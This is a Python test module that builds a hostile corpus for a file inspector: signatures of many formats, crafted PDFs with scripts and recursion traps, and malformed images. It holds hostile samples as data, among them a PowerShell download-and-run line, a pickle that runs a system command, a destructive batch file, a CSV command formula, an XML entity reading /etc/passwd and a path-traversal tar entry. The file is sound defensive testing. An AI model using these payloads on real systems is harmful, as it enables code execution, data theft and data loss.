"""The second half of the hostile corpus: other containers by their first bytes, and each decoder's own traps."""

import io
import struct
import tarfile
import zlib
from collections.abc import Callable

import numpy as np
import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.inspection.hostile import (
    GOOD,
    PAGE,
    SECRET,
    act,
    chunk,
    encode,
    exif,
    heic,
    heif_brand,
    in_jpeg,
    jpeg,
    page,
    pdf,
    picture,
    png_of_size,
    root,
    segment,
    unfolding,
    zipped,
)

Case = tuple[Callable[[], bytes], str]
UNKNOWN = "file_kind_unknown"

STARTS: dict[str, bytes] = {
    "old word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "rich text with an object": b"{\\rtf1{\\object\\objemb\\objupdate}}",
    "icon": b"\0\0\x01\0\x01\0\x10\x10",
    "cursor": b"\0\0\x02\0\x01\0\x10\x10",
    "photoshop": b"8BPS\0\x01\0\0\0\0\0\0\0\x03\xff\xff\xff\xff\xff\xff\xff\xff",
    "gimp": b"gimp xcf file\0",
    "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n",
    "jpeg 2000 stream": b"\xff\x4f\xff\x51",
    "jpeg xl": b"\xff\x0a",
    "jpeg xl box": b"\0\0\0\x0cJXL \r\n\x87\n",
    "bpg": b"BPG\xfb",
    "qoi of 4 G": b"qoif\xff\xff\xff\xff\xff\xff\xff\xff\x04\0",
    "farbfeld of 4 G": b"farbfeld\xff\xff\xff\xff\xff\xff\xff\xff",
    "ppm of 10 G": b"P6\n99999 99999\n255\n",
    "pcx": b"\x0a\x05\x01\x08",
    "dds": b"DDS |\0\0\0",
    "fits": b"SIMPLE  =                    T",
    "dicom": b"\0" * 128 + b"DICM",
    "windows metafile": b"\xd7\xcd\xc6\x9a",
    "enhanced metafile": b"\x01\0\0\0" + b"\0" * 36 + b" EMF",
    "big tiff": b"II+\0\x08\0\0\0",
    "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom",
    "quicktime": b"\0\0\0\x14ftypqt  \0\0\0\0qt  ",
    "3gp": b"\0\0\0\x14ftyp3gp5\0\0\0\x003gp5",
    "matroska": b"\x1a\x45\xdf\xa3",
    "ogg": b"OggS\0\x02",
    "mp3": b"ID3\x04\0\0\0\0\0\0",
    "flac": b"fLaC\0\0\0\x22",
    "midi": b"MThd\0\0\0\x06",
    "avi": b"RIFF\0\0\0\0AVI LIST",
    "7z": b"7z\xbc\xaf\x27\x1c",
    "rar": b"Rar!\x1a\x07\x01\0",
    "xz": b"\xfd7zXZ\0",
    "bzip2": b"BZh91AY&SY",
    "zstd": b"\x28\xb5\x2f\xfd",
    "cab": b"MSCF\0\0\0\0",
    "java class": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "mach-o": b"\xcf\xfa\xed\xfe",
    "webassembly": b"\0asm\x01\0\0\0",
    "python bytecode": b"\xa7\r\r\n\0\0\0\0",
    "pickle that runs": b"cos\nsystem\n(S'id'\ntR.",
    "sqlite": b"SQLite format 3\0",
    "windows shortcut": b"L\0\0\0\x01\x14\x02\0",
    "batch file": b"@echo off\r\ndel /q *\r\n",
    "powershell": b"IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "hta": b"<hta:application/><script>new ActiveXObject('WScript.Shell')</script>",
    "mail": b"From: a@example.test\r\nSubject: x\r\nContent-Type: multipart/mixed\r\n\r\n",
    "web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n",
    "calendar": b"BEGIN:VCALENDAR\r\n",
    "csv with a formula": b"=cmd|'/c calc'!A0,1\r\n",
    "json": b'{"__proto__": {"admin": true}}',
    "entity bomb": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "&c;&c;">]><x>&a;</x>',
    "entity that reads a file": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "xhtml with script": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    "postscript with a picture": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "forms data": b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript<<>>>>>>endobj",
    "font": b"OTTO\0\x0a\0\x80",
    "only zeros": b"\0" * 4096,
    "only blanks": b" " * 4096,
    "a byte order mark alone": b"\xef\xbb\xbf",
    "a jpeg in base64": b"data:image/jpeg;base64,/9j/4AAQSkZJRg==",
    "a jpeg after one blank": b" \xff\xd8\xff\xe0",
    "a png with unix line ends": b"\x89PNG\n\x1a\n",
    "a pdf head after a page of text": b"x" * 2000 + b"%PDF-1.7\n",
    "webp with small letters": b"riff\0\0\0\0webp",
    "heif without a heic brand": b"\0\0\0\x18ftypmif1\0\0\0\0mif1miaf",
    "avif sequence": b"\0\0\0\x18ftypavis\0\0\0\0avismsf1",
}
"""What other things begin with. None of them reaches a decoder."""


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("../../etc/cron.d/x")
        entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(entry)
    return out.getvalue()


def png_chunks(*chunks: bytes) -> bytes:
    """A good PNG with chunks behind its header."""
    data = encode(picture(), "PNG")
    return data[:33] + b"".join(chunks) + data[33:]


def png_header(width: int, height: int, depth: int, kind: int, interlace: int = 0) -> bytes:
    body = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, interlace)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", body) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def scans(count: int) -> bytes:
    """A progressive JPEG whose last scan comes `count` times: each costs a pass over the whole picture."""
    data = jpeg(progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + data[-2:]


def many_tags(count: int) -> bytes:
    """An EXIF block that says it has `count` tags."""
    tags = b"".join(struct.pack("<HHII", 0x8000 + n % 1000, 2, 4, 0) for n in range(count))
    return in_jpeg(segment(0xE1, (b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 0xFFFF) + tags)[:65000]))


def grey_pixels(data: bytes) -> bytes:
    """A good JPEG with every byte of its scan set to one value."""
    start = data.index(b"\xff\xda") + 14
    return data[:start] + b"\x55" * (len(data) - start - 2) + data[-2:]


def webp(*chunks: bytes, flags: int = 0, size: tuple[int, int] = (300, 200)) -> bytes:
    """An extended WebP of these chunks."""
    width, height = (struct.pack("<I", side - 1)[:3] for side in size)
    body = b"VP8X" + struct.pack("<I", 10) + bytes([flags, 0, 0, 0]) + width + height + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def riff(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def pixels_of(data: bytes) -> bytes:
    """The picture chunk of a simple WebP."""
    return data[12:]


def sealed_by_registry(document: pikepdf.Pdf) -> None:
    """A signature field as the registry's certificates have it: no act, so no reason to refuse."""
    sign = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"), Contents=String("x" * 64)
    )
    field = Dictionary(FT=Name.Sig, T=String("s"), V=sign, Subtype=Name.Widget, Rect=Array([0, 0, 0, 0]))
    made = document.make_indirect(field)
    document.Root.AcroForm = Dictionary(Fields=Array([made]), SigFlags=3)
    document.pages[0].obj.Annots = Array([made])


def annotated(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def scripted_field(document: pikepdf.Pdf) -> None:
    """A field of a form that runs something at every key."""
    keys = Dictionary(K=act("JavaScript", JS=String("1")))
    made = document.make_indirect(
        Dictionary(FT=Name.Tx, T=String("t"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), AA=keys)
    )
    document.Root.AcroForm = Dictionary(Fields=Array([made]))
    document.pages[0].obj.Annots = Array([made])


def content(data: bytes, **resources: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.Contents = document.make_stream(data)
        document.pages[0].obj.Resources = Dictionary(**resources)

    return change


def many_objects(document: pikepdf.Pdf) -> None:
    for number in range(20_100):
        document.make_indirect(Dictionary(N=number))


def deep_pages(document: pikepdf.Pdf) -> None:
    """The one page lies under 300 nodes."""
    leaf = document.pages[0].obj
    inner = leaf
    for _ in range(300):
        node = document.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([inner]), Count=1))
        inner.Parent = node
        inner = node
    document.Root.Pages = inner


def one_hundred_pictures(document: pikepdf.Pdf) -> None:
    shown = document.make_stream(bytes(300 * 200 * 3))
    shown.Type, shown.Subtype, shown.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
    shown.Width, shown.Height, shown.BitsPerComponent = 300, 200, 8
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=shown))
    draw = b"".join(b"q 100 0 0 100 %d %d cm /I Do Q\n" % (n % 10 * 50, n // 10 * 70) for n in range(100))
    document.pages[0].obj.Contents = document.make_stream(draw)


def chained(times: int) -> Callable[[pikepdf.Pdf], None]:
    """A content stream packed `times` over."""

    def change(document: pikepdf.Pdf) -> None:
        data = b"q Q " * 5000
        for _ in range(times):
            data = zlib.compress(data)
        stream = pikepdf.Stream(document, b"")
        stream.write(data, filter=Array([Name.FlateDecode] * times))
        document.pages[0].obj.Contents = stream

    return change


def picture_in(filter_name: str, data: bytes) -> Callable[[pikepdf.Pdf], None]:
    """A picture with bytes that its filter cannot read."""

    def change(document: pikepdf.Pdf) -> None:
        shown = pikepdf.Stream(document, b"")
        shown.write(data, filter=Name("/" + filter_name))
        shown.Type, shown.Subtype, shown.ColorSpace = Name.XObject, Name.Image, Name.DeviceGray
        shown.Width, shown.Height, shown.BitsPerComponent = 300, 200, 1
        content(b"q 500 0 0 500 0 0 cm /I Do Q", XObject=Dictionary(I=shown))(document)

    return change


def self_pattern(document: pikepdf.Pdf) -> None:
    """A pattern that paints with itself."""
    tile = document.make_stream(b"/Pattern cs /P scn 0 0 9 9 re f")
    tile.Type, tile.PatternType, tile.PaintType, tile.TilingType = Name.Pattern, 1, 1, 1
    tile.BBox, tile.XStep, tile.YStep = Array([0, 0, 9, 9]), 9, 9
    tile.Resources = Dictionary(Pattern=Dictionary(P=tile))
    content(b"/Pattern cs /P scn 0 0 500 500 re f", Pattern=Dictionary(P=tile))(document)


def self_font(document: pikepdf.Pdf) -> None:
    """A drawn letter that writes itself."""
    letter = document.make_stream(b"10 0 d0 BT /F 9 Tf (a) Tj ET")
    font = document.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type3,
            FontBBox=Array([0, 0, 9, 9]),
            FontMatrix=Array([0.1, 0, 0, 0.1, 0, 0]),
            CharProcs=Dictionary(a=letter),
            FirstChar=97,
            LastChar=97,
            Widths=Array([9]),
            Encoding=Dictionary(Differences=Array([97, Name.a])),
        )
    )
    font.Resources = Dictionary(Font=Dictionary(F=font))
    content(b"BT /F 40 Tf 100 100 Td (a) Tj ET", Font=Dictionary(F=font))(document)


def escaped_names(data: bytes) -> bytes:
    """The same names, written with escapes as readers also take them."""
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def looping_table() -> bytes:
    """A cross reference table that names itself as the one before it."""
    data = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = int(data[data.rindex(b"startxref") :].split()[1])
    return data.replace(b"trailer <<", b"trailer << /Prev %d " % start, 1)


def appended() -> bytes:
    """An update behind the end that adds a script."""
    data = pdf()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.Root.OpenAction = act("JavaScript", JS=String("1"))
        out = io.BytesIO()
        document.save(out)
    return data + out.getvalue()


PDF = {
    "pdf with a registry's signature field": (lambda: pdf(sealed_by_registry), PAGE),
    "pdf of version 2.0": (lambda: pdf(min_version="2.0"), PAGE),
    "linearised pdf": (lambda: pdf(linearize=True), PAGE),
    "pdf on its side": (lambda: pdf(page(Rotate=90)), "pdf 1 2400 1696"),
    "pdf turned by 45 degrees": (lambda: pdf(page(Rotate=45)), PAGE),
    "pdf with a script in escaped names": (
        lambda: escaped_names(pdf(root(OpenAction=act("JavaScript", JS=String("1"))), compress_streams=False)),
        "pdf_active",
    ),
    "pdf with a script in an update": (appended, "pdf_active"),
    "pdf whose table names itself": (looping_table, PAGE),
    "pdf with an attached file in a note": (
        lambda: pdf(annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("x"), EF=Dictionary()))),
        "pdf_active",
    ),
    "pdf with a film": (lambda: pdf(annotated(Subtype=Name.Movie, A=act("Movie"))), "pdf_active"),
    "pdf with a sound": (lambda: pdf(annotated(Subtype=Name.Link, A=act("Sound"))), "pdf_active"),
    "pdf with a rendition": (lambda: pdf(annotated(Subtype=Name.Screen, A=act("Rendition"))), "pdf_active"),
    "pdf with rich media": (
        lambda: pdf(annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
        "pdf_active",
    ),
    "pdf that opens an embedded file": (lambda: pdf(annotated(Subtype=Name.Link, A=act("GoToE"))), "pdf_active"),
    "pdf with a script when a field changes": (lambda: pdf(scripted_field), "pdf_active"),
    "pdf with a script when it closes": (
        lambda: pdf(root(AA=Dictionary(WC=act("JavaScript", JS=String("1"))))),
        "pdf_active",
    ),
    "pdf with a package of xfa parts": (
        lambda: pdf(root(AcroForm=Dictionary(XFA=Array([String("template"), String("<t/>")])))),
        "pdf_active",
    ),
    "pdf of 20,100 objects": (lambda: pdf(many_objects), PAGE),
    "pdf with a page under 300 nodes": (lambda: pdf(deep_pages), "file_damaged"),
    "pdf that shows a picture 100 times": (lambda: pdf(one_hundred_pictures), PAGE),
    "pdf packed 8 times over": (lambda: pdf(chained(8)), PAGE),
    "pdf with a picture that is no jbig2": (lambda: pdf(picture_in("JBIG2Decode", b"\0" * 500)), PAGE),
    "pdf with a picture that is no jpeg 2000": (lambda: pdf(picture_in("JPXDecode", b"\0" * 500)), PAGE),
    "pdf with a picture that is no fax": (lambda: pdf(picture_in("CCITTFaxDecode", b"\0" * 500)), PAGE),
    "pdf with a picture that is no jpeg": (lambda: pdf(picture_in("DCTDecode", b"\xff\xd8\xff" * 50)), PAGE),
    "pdf with a pattern within itself": (lambda: pdf(self_pattern), PAGE),
    "pdf with a letter within itself": (lambda: pdf(self_font), PAGE),
    "pdf with a page of no size": (lambda: pdf(page(MediaBox=Array([0, 0, 0, 0]))), "pdf 1 1855 2400"),
    "pdf with a page upside down": (lambda: pdf(page(MediaBox=Array([595, 842, 0, 0]))), PAGE),
    "pdf with a page that is no number": (lambda: pdf(page(MediaBox=Array([Name.A, Name.B, 1, 1]))), "pdf 1 8 8"),
    "pdf with nonsense for content": (lambda: pdf(content(b"((((<<<<[[[[ BT ET q q q q")), PAGE),
    "pdf of 60,000 open brackets": (lambda: pdf(content(b"[" * 60_000)), PAGE),
    "pdf with a strong password": (
        lambda: pdf(encryption=pikepdf.Encryption(user="17081945", owner="x", R=6)),
        "pdf_locked",
    ),
    "pdf with an old password": (
        lambda: pdf(encryption=pikepdf.Encryption(user="17081945", owner="x", R=3, aes=False, metadata=False)),
        "pdf_locked",
    ),
    "pdf with a word about the place": (lambda: pdf(root(Lang=String(SECRET.decode()))), PAGE),
}

PICTURES = {
    "jpeg of 120 scans": (lambda: scans(120), GOOD),
    "jpeg of 65,535 tags": (lambda: many_tags(5000), GOOD),
    "jpeg whose scan is one value": (lambda: grey_pixels(jpeg()), GOOD),
    "jpeg with sixty comments": (lambda: in_jpeg(*[segment(0xFE, b"x" * 60_000)] * 60), GOOD),
    "jpeg with a tail of zeros": (lambda: jpeg() + b"\0" * 3_000_000, GOOD),
    "jpeg without its end": (lambda: jpeg()[:-2], "file_damaged"),
    "jpeg with a second start": (lambda: jpeg()[:2] + jpeg(), "file_damaged"),
    "jpeg with a camera's own notes": (lambda: in_jpeg(segment(0xE1, b"Exif\0\0" + exif().tobytes())), GOOD),
    "jpeg with printing notes": (lambda: in_jpeg(segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04" + SECRET)), GOOD),
    "jpeg with a profile in pieces": (
        lambda: in_jpeg(*(segment(0xE2, b"ICC_PROFILE\0" + bytes([n, 3]) + SECRET * 9) for n in (1, 2, 3))),
        GOOD,
    ),
    "two photos in one jpeg": (lambda: encode(picture(), "MPO", save_all=True, append_images=[picture()]), GOOD),
    "jpeg of one line": (lambda: encode(picture(60_000, 1), "JPEG"), "jpeg 1 2400 1"),
    "jpeg without tables": (lambda: jpeg().replace(b"\xff\xdb", b"\xff\xfe"), "file_damaged"),
    "jpeg of no parts": (lambda: jpeg().replace(b"\x01\x2c\x03", b"\x01\x2c\x00", 1), "file_damaged"),
    "jpeg in a mode nobody writes": (lambda: jpeg().replace(b"\xff\xc0", b"\xff\xc3", 1), "file_damaged"),
    "png with lines in turn": (lambda: png_header(300, 200, 8, 2, interlace=9), "file_damaged"),
    "png of depth 3": (lambda: png_header(10, 10, 3, 0), "file_damaged"),
    "png of a colour that is none": (lambda: png_header(10, 10, 8, 9), "file_damaged"),
    "png without a palette": (lambda: png_header(10, 10, 8, 3), "png 1 10 10"),
    "png without pixels": (lambda: png_of_size(10, 10, body=b""), "file_damaged"),
    "png whose pixels are no zlib": (lambda: png_of_size(10, 10, body=b"not zlib" * 9), "png 1 10 10"),
    "png with 200 MB behind its pixels": (
        lambda: png_of_size(10, 10, body=unfolding(bytes(1_000_000), 200)),
        "png 1 10 10",
    ),
    "png of 30,000 small chunks": (lambda: png_chunks(*[chunk(b"teSt", b"x")] * 30_000), "png 1 300 200"),
    "png with a script in its text": (
        lambda: png_chunks(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")),
        "png 1 300 200",
    ),
    "png with a place in exif": (lambda: encode(picture(), "PNG", exif=exif()), "png 1 300 200"),
    "png with another head inside": (
        lambda: png_chunks(chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))),
        "png 1 9 9",
    ),
    "png of one column": (lambda: encode(picture(1, 9000), "PNG"), "png 1 1 2400"),
    "webp without loss": (lambda: encode(picture(), "WEBP", lossless=True), "webp 1 300 200"),
    "webp of one moving frame": (
        lambda: encode(picture(), "WEBP", save_all=True, append_images=[], duration=9),
        "webp 1 300 200",
    ),
    "webp whose canvas lies": (
        lambda: webp(pixels_of(encode(picture(), "WEBP")), size=(16000, 16000)),
        "file_damaged",
    ),
    "webp without a picture": (lambda: webp(riff(b"EXIF", SECRET)), "file_damaged"),
    "webp with a place": (
        lambda: webp(pixels_of(encode(picture(), "WEBP")), riff(b"EXIF", exif().tobytes()), flags=8),
        "webp 1 300 200",
    ),
    "webp with html for a chunk": (
        lambda: webp(riff(b"XMP ", b"<script>alert(1)</script>"), pixels_of(encode(picture(), "WEBP")), flags=4),
        "webp 1 300 200",
    ),
    "heic of every brand and nothing else": (lambda: heif_brand(b"hevx"), "file_damaged"),
    "heic with a tail of html": (lambda: heic() + b"<script>alert(1)</script>", "heic 1 300 200"),
    "heic with noise inside": (
        lambda: heic()[:60] + np.random.default_rng(3).integers(0, 256, 900, np.uint8).tobytes() + heic()[960:],
        "file_damaged",
    ),
    "grey heic": (lambda: heic(picture(mode="L")), "heic 1 300 200"),
    "a zip in a png": (lambda: png_chunks(chunk(b"ziPp", zipped(("x.exe", b"MZ")))), "png 1 300 200"),
}

CASES: dict[str, Case] = {
    **{f"{name} by its first bytes": (lambda data=data: data + b"\0" * 64, UNKNOWN) for name, data in STARTS.items()},
    "tar that climbs out": (tarred, UNKNOWN),
    "gif behind a comment": (lambda: b"\n" + encode(Image.new("RGB", (9, 9)), "GIF"), UNKNOWN),
    **PDF,
    **PICTURES,
}
